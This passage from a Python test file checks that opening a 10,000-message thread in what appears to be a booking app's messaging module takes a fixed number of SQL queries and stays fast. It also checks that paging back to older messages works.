                            recipients=[(SubjectKind.STAFF.value, 0)])
    return office


def _statements(engine, call):
    seen: list[str] = []

    def record(_conn, _cursor, statement, *_args) -> None:
        seen.append(statement)

    event.listen(engine, "before_cursor_execute", record)
    try:
        started = time.perf_counter()
        result = call()
        return result, seen, time.perf_counter() - started
    finally:
        event.remove(engine, "before_cursor_execute", record)


def test_a_thread_of_10000_messages_opens_with_one_page_in_a_fixed_number_of_queries(long_thread, fresh_db):
    office = long_thread
    view, first, _ = _statements(fresh_db, lambda: talks.thread_view(actor=office.anna, thread_id=office.thread_id))
    assert len(view.messages) == talks.MESSAGE_PAGE and view.older
    assert view.messages[-1].body == "Nachricht 10000" and view.messages[0].body == "Nachricht 9901"
    # Opened again (read marks already set), for staff and for the client: a short talk about
    # the other booking and the long one take the same statements.
    with db.session() as s:
        other_booking = s.exec(select(Booking.id).where(Booking.account_id == office.account_id,
                                                        Booking.id != office.booking_id)).first()
    short_id = talks.start_talk(actor=office.anna, booking_id=other_booking, recipient_contact_id=None,
                                internal=False, sender_name="Anna", body="eins")
    for actor in (office.anna, office.maria):
        talks.thread_view(actor=actor, thread_id=short_id)
        talks.thread_view(actor=actor, thread_id=office.thread_id)
        _, short, _ = _statements(fresh_db, lambda: talks.thread_view(actor=actor, thread_id=short_id))
        view, long, seconds = _statements(fresh_db, lambda: talks.thread_view(actor=actor, thread_id=office.thread_id))
        assert len(long) == len(short), "\n".join(long)
        assert seconds < 2.0 and len(view.messages) == talks.MESSAGE_PAGE
    older, _, seconds = _statements(fresh_db, lambda: talks.thread_view(actor=office.anna, thread_id=office.thread_id,
                                                                        newest=2 * talks.MESSAGE_PAGE))
    assert [m.body for m in older.messages[:2]] == ["Nachricht 9801", "Nachricht 9802"] and older.older
    assert len(first) <= len(long) + 4  # the first open also writes the read marks, in a few UPDATEs
